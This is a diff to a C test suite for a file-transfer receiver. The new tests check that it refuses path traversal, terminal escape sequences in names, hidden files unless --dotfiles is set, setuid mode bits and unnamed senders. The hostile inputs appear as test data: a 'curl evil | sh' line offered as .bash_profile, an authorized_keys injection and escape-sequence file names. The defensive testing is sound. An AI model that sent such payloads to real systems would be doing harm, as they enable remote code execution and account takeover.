@@ -26,12 +26,15 @@ struct rx {
 };
 
 static char tmpl[] = "/tmp/tcpunch-test-files.XXXXXX";
+static bool dotfiles;         /* the receiver's --dotfiles, for the next start() */
+static bool refuse_all;       /* the next start() runs frecv_refuse instead (receive --from) */
 static const char *root; /* the test's scratch directory; DIR is root/in */
 
 static void *rx_main(void *arg)
 {
     struct rx *r = arg;
-    r->rc = frecv_run(&r->o, &r->link, r->dirfd, r->force);
+    r->rc = refuse_all ? frecv_refuse(&r->o, &r->link, "not one of ours")
+                       : frecv_run(&r->o, &r->link, r->dirfd, r->force);
     return NULL;
 }
 
@@ -48,6 +51,7 @@ static int start(struct rx *r, struct chan *tx, bool force)
     r->dirfd = frecv_open_dir(dir);
     r->force = force;
     r->o.quiet = true;
+    r->o.dotfiles = dotfiles;
     r->link.fd = sv[0];
     snprintf(r->link.peer, sizeof r->link.peer, "hostile");
     memset(r->link.tx_key, 1, sizeof r->link.tx_key);
@@ -79,7 +83,8 @@ static json_t *reply(struct chan *tx)
 
 /* Offers one file; returns the receiver's first answer's "refused" text, or NULL when it
  * accepted and (with data) stored it. sum_ok false: a wrong checksum. */
-static char *offer(struct chan *tx, const char *name, const char *data, bool sum_ok)
+static char *offer_mode(struct chan *tx, const char *name, const char *data, bool sum_ok,
+                        int mode)
 {
     unsigned char sum[FPROTO_SUM_BYTES];
     char hex[FPROTO_SUM_HEX + 1];
@@ -87,7 +92,7 @@ static char *offer(struct chan *tx, const char *name, const char *data, bool sum
     json_t *m;
     size_t n = strlen(data);
     fproto_send(tx,
-                json_pack("{s:s, s:I, s:i}", "name", name, "size", (json_int_t)n, "mode", 0644));
+                json_pack("{s:s, s:I, s:i}", "name", name, "size", (json_int_t)n, "mode", mode));
     m = reply(tx);
     if (m && !json_is_true(json_object_get(m, "accept"))) {
         refused = strdup(json_string_value(json_object_get(m, "refused")));
@@ -105,6 +110,11 @@ static char *offer(struct chan *tx, const char *name, const char *data, bool sum
         refused = strdup(json_string_value(json_object_get(m, "refused")));
     json_decref(m);
     return refused;
+}
+
+static char *offer(struct chan *tx, const char *name, const char *data, bool sum_ok)
+{
+    return offer_mode(tx, name, data, sum_ok, 0644);
 }
 
 static void begin(struct chan *tx)
@@ -181,13 +191,112 @@ static bool refused_with(char *why, const char *part)
 static void t_names(void)
 {
     char why[200];
-    static const char *const bad[] = {"",   "/etc/passwd", "../x",  "a/../../x", "a//b",
-                                      "a/", ".",           "a/./b", "x\ny",      "a/.."};
+    /* the last ones would drive or fool the terminal that shows them: CSI as a C1 control
+     * (U+009B), ESC, a raw 0x9b byte (not UTF-8), a right-to-left override, a line separator */
+    static const char *const bad[] = {
+        "",          "/etc/passwd", "../x", "a/../../x",        "a//b",         "a/",
+        ".",         "a/./b",       "x\ny", "a/..",             "\xc2\x9b" "2Jx", "\x1b]0;t\x07",
+        "\x9b" "2J", "a\xe2\x80\xae" "b", "a\xe2\x80\xa8" "b", "\xc0\xaf" "overlong"};
     static const char *const good[] = {"x", "a/b/c.txt", "..x", ".hidden", "a b", "ü"};
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
         CHECK_MSG(!fproto_check_name(bad[i], why, sizeof why), "accepted \"%s\"", bad[i]);
     for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
         CHECK_MSG(fproto_check_name(good[i], why, sizeof why), "refused \"%s\": %s", good[i], why);
+}
+
+static mode_t mode_of(const char *rel)
+{
+    char p[600];
+    struct stat st;
+    snprintf(p, sizeof p, "%s/%s", root, rel);
+    return lstat(p, &st) == 0 ? st.st_mode & 07777 : (mode_t)-1;
+}
+
+/* Hidden names (.ssh/authorized_keys, .bashrc, .config/tcpunch/config) only with --dotfiles;
+ * refused like any other file (exit 10), with no directory created for them. */
+static void t_dotfiles(void)
+{
+    struct rx r;
+    struct chan tx;
+    dotfiles = false;
+    if (start(&r, &tx, false) < 0)
+        return;
+    begin(&tx);
+    CHECK(refused_with(offer(&tx, ".ssh/authorized_keys", "ssh-ed25519 AAAA\n", true),
+                       "--dotfiles"));
+    CHECK(refused_with(offer(&tx, ".bash_profile", "curl evil | sh\n", true), "hidden"));
+    CHECK(refused_with(offer(&tx, "dsub/.config/tcpunch/config", "server = evil\n", true),
+                       "hidden"));
+    CHECK(refused_with(offer(&tx, "..x", "x", true), "hidden"));
+    CHECK(offer(&tx, "visible.txt", "seen\n", true) == NULL);
+    end(&tx);
+    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
+    CHECK(!exists("in/.ssh") && !exists("in/.bash_profile") && !exists("in/dsub"));
+    CHECK(holds("in/visible.txt", "seen\n"));
+    dotfiles = true;
+    if (start(&r, &tx, false) < 0)
+        return;
+    begin(&tx);
+    CHECK(offer(&tx, ".dot/.profile", "asked for\n", true) == NULL);
+    end(&tx);
+    CHECK_INT(stop(&r, &tx), EXIT_DONE);
+    CHECK(holds("in/.dot/.profile", "asked for\n"));
+    dotfiles = false;
+    CHECK(no_parts());
+}
+
+/* The sender's mode never brings setuid, setgid, sticky or group/world write, and neither do
+ * the directories made for it; the umask takes away more. */
+static void t_modes(void)
+{
+    struct rx r;
+    struct chan tx;
+    mode_t old = umask(0);
+    if (start(&r, &tx, false) < 0)
+        goto out;
+    begin(&tx);
+    CHECK(offer_mode(&tx, "m0/suid", "x", true, 07777) == NULL);
+    CHECK(offer_mode(&tx, "m0/plain", "x", true, 0666) == NULL);
+    end(&tx);
+    CHECK_INT(stop(&r, &tx), EXIT_DONE);
+    CHECK_INT(mode_of("in/m0/suid"), 0755);
+    CHECK_INT(mode_of("in/m0/plain"), 0644);
+    CHECK_INT(mode_of("in/m0"), 0755);
+    umask(077);
+    if (start(&r, &tx, false) < 0)
+        goto out;
+    begin(&tx);
+    CHECK(offer_mode(&tx, "m77/d2/f", "x", true, 0777) == NULL);
+    end(&tx);
+    CHECK_INT(stop(&r, &tx), EXIT_DONE);
+    CHECK_INT(mode_of("in/m77/d2/f"), 0700);
+    CHECK_INT(mode_of("in/m77"), 0700);
+    CHECK_INT(mode_of("in/m77/d2"), 0700);
+out:
+    umask(old);
+}
+
+/* receive --from, a sender not named: its opening line gets {"refused": ...}, both streams
+ * end properly, nothing is written. */
+static void t_refuse_sender(void)
+{
+    struct rx r;
+    struct chan tx;
+    json_t *m;
+    refuse_all = true;
+    if (start(&r, &tx, false) < 0)
+        goto out;
+    fproto_send(&tx, json_pack("{s:i, s:i, s:i}", "files", 1, "count", 1, "bytes", 10));
+    m = reply(&tx);
+    CHECK(m && json_integer_value(json_object_get(m, "files")) == 0);
+    CHECK(m && json_string_value(json_object_get(m, "refused")) &&
+          strcmp(json_string_value(json_object_get(m, "refused")), "not one of ours") == 0);
+    json_decref(m);
+    CHECK(chan_finish(&tx) == 0);
+    CHECK_INT(fproto_recv(&tx, &m), 0);
+    CHECK_INT(stop(&r, &tx), EXIT_PARTIAL);
+out:
+    refuse_all = false;
 }
 
 static void t_refusals(void)
@@ -289,7 +398,9 @@ static void teardown(void)
 int main(int argc, char **argv)
 {
     static const struct check_test tests[] = {TEST(t_names), TEST(t_refusals), TEST(t_force),
-                                              TEST(t_cut), TEST(t_not_files)};
+                                              TEST(t_cut), TEST(t_not_files),
+                                              TEST(t_dotfiles), TEST(t_modes),
+                                              TEST(t_refuse_sender)};
     int rc;
     if (sodium_init() < 0)
         return 1;
